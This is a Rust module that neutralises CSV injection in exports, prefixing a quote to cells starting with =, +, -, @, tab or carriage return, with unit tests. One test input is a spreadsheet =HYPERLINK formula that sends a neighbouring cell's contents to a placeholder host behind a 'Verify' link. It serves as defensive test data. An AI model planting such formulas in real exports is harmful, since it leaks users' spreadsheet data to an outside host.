//! Exports people open in a spreadsheet: CSV records written by the `csv` crate (RFC 4180
//! quoting), each cell made inert when a spreadsheet would evaluate it (OWASP, "CSV
//! Injection"): a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
//! leading `'`, so `=HYPERLINK(…)` typed as a user agent shows as text, not as a link. JSON
//! lines exports stay verbatim.

use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell`, with a leading `'` when a spreadsheet would evaluate it.
pub fn inert(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// One CSV record of `cells`, each made [`inert`], without the line break.
pub fn record<I, S>(cells: I) -> String
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    let cells: Vec<String> = cells
        .into_iter()
        .map(|cell| inert(cell.as_ref()).into_owned())
        .collect();
    // Writing to memory cannot fail; an error would leave the record empty.
    if writer.write_record(&cells).is_err() {
        return String::new();
    }
    let bytes = writer.into_inner().unwrap_or_default();
    let line = String::from_utf8_lossy(&bytes);
    line.strip_suffix('\n').unwrap_or(&line).to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_evaluate_are_made_text() {
        for (cell, expected) in [
            (
                "=HYPERLINK(\"http://x.invalid/?\"&A2,\"Verify\")",
                "'=HYPERLINK(\"http://x.invalid/?\"&A2,\"Verify\")",
            ),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("owner@acme.test", "owner@acme.test"),
            ("", ""),
        ] {
            assert_eq!(inert(cell), expected, "{cell:?}");
        }
    }

    #[test]
    fn records_quote_what_needs_quoting_and_neutralise_formulas() {
        assert_eq!(
            record(["a", "b,c", "say \"hi\""]),
            "a,\"b,c\",\"say \"\"hi\"\"\""
        );
        assert_eq!(record(["=1+1", "x"]), "'=1+1,x");
        assert_eq!(record(["line\nbreak"]), "\"line\nbreak\"");
    }
}
